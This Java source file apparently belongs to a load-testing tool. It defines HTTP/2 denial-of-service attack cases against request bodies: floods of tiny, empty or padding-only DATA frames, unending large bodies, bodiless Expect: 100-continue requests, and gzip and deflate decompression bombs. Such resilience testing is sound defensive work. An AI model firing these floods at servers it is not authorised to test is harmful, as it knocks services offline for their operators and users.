package dev.medley.loadtest.attack.way;

import static dev.medley.loadtest.attack.way.Steps.attack;

import dev.medley.loadtest.attack.connection.Attack;
import dev.medley.loadtest.attack.way.Http2Client.Plan;
import java.util.List;

/** Attacks over HTTP/2 by bodies. */
final class Http2Bodies {

    private static final byte[] NO_PAYLOAD = new byte[0];
    private static final byte[] PADDING = paddingOnly();
    private static final byte[] POST = Steps.post().bytes();
    private static final byte[] LONG =
            Steps.post().field("content-length", "1048576").bytes();
    private static final byte[] EXPECTING = Steps.post()
            .field("content-length", "100")
            .field("expect", "100-continue")
            .bytes();
    private static final byte[] UNREAD =
            FieldBlock.post(Targets.WAIT, Attack.Way.CLEAR).bytes();

    private Http2Bodies() {}

    static List<Attack> all() {
        return List.of(
                attack(
                        "h2-tiny-data",
                        Steps.STREAMS + " bodies in DATA frames of one byte",
                        opened(POST).round(Http2Bodies::tinyData)),
                attack(
                        "h2-tiny-data-unread",
                        "the same, of requests whose bodies no mashup reads",
                        opened(UNREAD).round(Http2Bodies::tinyData)),
                attack(
                        "h2-empty-data",
                        "DATA frames without a byte",
                        opened(POST)
                                .round(client -> Steps.repeat(
                                        i -> client.frames().frame(FrameWriter.DATA, 0, stream(i), NO_PAYLOAD)))),
                attack("h2-padding", "DATA frames of padding only", opened(POST).round(client -> {
                    for (int i = 0; i < Steps.STREAMS; i++) {
                        if (client.take(stream(i), PADDING.length) == PADDING.length) {
                            client.frames().frame(FrameWriter.DATA, FrameWriter.PADDED, stream(i), PADDING);
                        }
                    }
                })),
                attack(
                        "h2-bodies-unended",
                        Steps.STREAMS + " bodies of 1 MiB that do not end, as far as 100 MB go",
                        opened(LONG).round(client -> bodies(client, 2_000))),
                attack(
                        "h2-expect",
                        Steps.STREAMS + " requests with Expect: 100-continue, and no body",
                        opened(EXPECTING)),
                bomb("h2-gzip-bomb", CodedBomb.GZIP),
                bomb("h2-deflate-bomb", CodedBomb.DEFLATE));
    }

    private static Attack bomb(String name, CodedBomb bomb) {
        byte[] head = Steps.post().field("content-encoding", bomb.coding()).bytes();
        byte[] body = bomb.bytes();
        return attack(name, bomb.what(), Plan.of().round(client -> {
            while (client.openStreams() < Steps.STREAMS) {
                client.frames().headers(client.open(), head, false);
                client.frames().frame(FrameWriter.DATA, FrameWriter.END_STREAM, client.last(), body);
            }
        }));
    }

    private static Plan opened(byte[] block) {
        return Plan.of().opening(client -> Steps.posts(client, block, Steps.STREAMS));
    }

    private static int stream(int number) {
        return 1 + 2 * (number % Steps.STREAMS);
    }

    private static void tinyData(Http2Client client) {
        for (int i = 0; i < Steps.STREAMS; i++) {
            int bytes = client.take(stream(i), 10);
            for (int each = 0; each < bytes; each++) {
                client.frames().frame(FrameWriter.DATA, 0, stream(i), (byte) ' ');
            }
        }
    }

    private static void bodies(Http2Client client, int most) {
        for (int i = 0; i < Steps.STREAMS; i++) {
            int bytes = client.take(stream(i), most);
            if (bytes > 0) {
                client.frames().frame(FrameWriter.DATA, 0, stream(i), new byte[bytes]);
            }
        }
    }

    private static byte[] paddingOnly() {
        byte[] payload = new byte[256];
        payload[0] = (byte) 255;
        return payload;
    }
}
